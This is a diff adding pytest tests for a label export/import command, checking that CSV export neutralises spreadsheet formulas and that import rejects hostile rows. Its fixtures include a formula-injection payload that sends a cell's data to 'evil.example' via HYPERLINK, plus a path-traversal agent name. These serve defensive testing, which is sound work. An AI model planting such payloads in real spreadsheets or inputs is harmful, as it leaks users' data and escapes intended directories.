@@ -197,3 +197,115 @@ def test_export_never_replaces_a_file_without_force(tmp_path: Path) -> None:
     assert not elsewhere.parent.exists()
     assert len(list(csv.DictReader(dangling.open(encoding="utf-8")))) == 4
     assert sorted(p.name for p in tmp_path.iterdir()) == ["labels.csv", "link.csv", "p", "results"]
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"open")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "'=already quoted",
+    "plain answer",
+    "Refunds take 5 days.",
+]
+
+
+def _formula_run(results: Path) -> None:
+    store_run(
+        results,
+        [
+            SampleRecord(
+                run_id="r1", case_id=case["id"], metric="hallucination", value=float(i % 2),
+                passed=i % 2 == 0, explanation="", output=text, version="v2",
+                evidence={"judge": "offline", "claims": [{"text": text, "probability": i / 10}]},
+            )
+            for i, (case, text) in enumerate(zip(CASES, FORMULAS, strict=True), start=1)
+        ],
+    )  # fmt: skip
+
+
+def test_csv_export_neutralises_formulas_and_import_reads_the_answers_back(
+    tmp_path: Path,
+) -> None:
+    contract = make_project(tmp_path / "p")
+    results = tmp_path / "results"
+    _formula_run(results)
+    args = ["--results", str(results), "--policies", str(contract.parent)]
+    out = tmp_path / "labels.csv"
+    runner = CliRunner()
+    done = runner.invoke(
+        cli, ["labels", "export", "tiny-agent", "--n", "8", "--out", str(out), *args]
+    )
+    assert done.exit_code == 0, done.output
+    with out.open(encoding="utf-8", newline="") as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], "no formula"
+    with out.open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    assert {r["answer"] for r in rows} >= {"'+1+1", "'@SUM(A1:A9)", "''=already quoted"}
+    for row in rows:
+        row["label"] = "1"
+    rows[0]["answer"] = rows[0]["answer"].removeprefix("'")  # as a spreadsheet saves it
+    with out.open("w", encoding="utf-8", newline="") as handle:
+        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
+        writer.writeheader()
+        writer.writerows(rows)
+    done = runner.invoke(cli, ["labels", "import", str(out), "--by", "ana", *args])
+    assert done.exit_code == 0, done.output
+    assert "8 new" in done.output
+    stored = ResultsStore(results).labels("tiny-agent")
+    assert sorted(r.answer for r in stored) == sorted(FORMULAS), "read back as the run stored them"
+
+
+def test_import_refuses_hostile_rows_each_named_and_stores_nothing(tmp_path: Path) -> None:
+    contract = make_project(tmp_path / "p")
+    results = tmp_path / "results"
+    _stored_run(results)
+    args = ["--results", str(results), "--policies", str(contract.parent)]
+    out = tmp_path / "labels.jsonl"
+    runner = CliRunner()
+    runner.invoke(cli, ["labels", "export", "tiny-agent", "--n", "5", "--out", str(out), *args])
+    rows = [{**json.loads(line), "label": 1} for line in out.read_text().splitlines()]
+    rows[0]["agent"] = "../../outside/tiny-agent"
+    rows[1]["judge_score"] = "=1+1"
+    rows[2]["judge_score"] = [0.5]
+    rows[3]["contexts"] = [1, {"passage": 2}]
+    rows[4]["agent"] = "x" * 100_000
+    out.write_text("".join(json.dumps(r) + "\n" for r in rows))
+    done = runner.invoke(cli, ["labels", "import", str(out), "--by", "ana", *args])
+    assert done.exit_code == 2, done.output
+    assert done.exception is None or isinstance(done.exception, SystemExit), "no traceback"
+    assert "labels.jsonl:1: agent: '../../outside/tiny-agent' is not an agent's name" in done.output
+    assert "labels.jsonl:2: judge_score: must be the judge's score" in done.output
+    assert "labels.jsonl:3: judge_score: must be the judge's score" in done.output
+    assert "labels.jsonl:4: contexts: must be a list of passages" in done.output
+    assert "labels.jsonl:5: agent: 'xxx" in done.output
+    assert len(done.output) < 2_000, "an untrusted value is cut short in messages"
+    assert not (tmp_path / "outside").exists()
+    assert ResultsStore(results).labels("tiny-agent") == []
+
+
+def test_import_refuses_a_huge_or_malformed_csv_without_a_traceback(tmp_path: Path) -> None:
+    contract = make_project(tmp_path / "p")
+    args = ["--results", str(tmp_path / "results"), "--policies", str(contract.parent)]
+    runner = CliRunner()
+    huge = tmp_path / "huge.csv"
+    with huge.open("wb") as handle:
+        handle.truncate(65 * 2**20)  # sparse: no disk used
+    done = runner.invoke(cli, ["labels", "import", str(huge), "--by", "ana", *args])
+    assert done.exit_code == 2, done.output
+    assert "huge.csv: file: is 65 MB; a label file is at most 64 MB" in done.output
+
+    cell = tmp_path / "cell.csv"
+    cell.write_text("id,agent,label\n" + "x" * 200_000 + ",tiny-agent,1\n", encoding="utf-8")
+    done = runner.invoke(cli, ["labels", "import", str(cell), "--by", "ana", *args])
+    assert done.exit_code == 2, done.output
+    assert "cell.csv:2: id: 'xxx" in done.output
+    assert len(done.output) < 1_000
+
+    broken = tmp_path / "broken.csv"
+    broken.write_text('id,label\n"unterminated,1\n', encoding="utf-8")
+    done = runner.invoke(cli, ["labels", "import", str(broken), "--by", "ana", *args])
+    assert done.exit_code == 2, done.output
+    assert "broken.csv:" in done.output
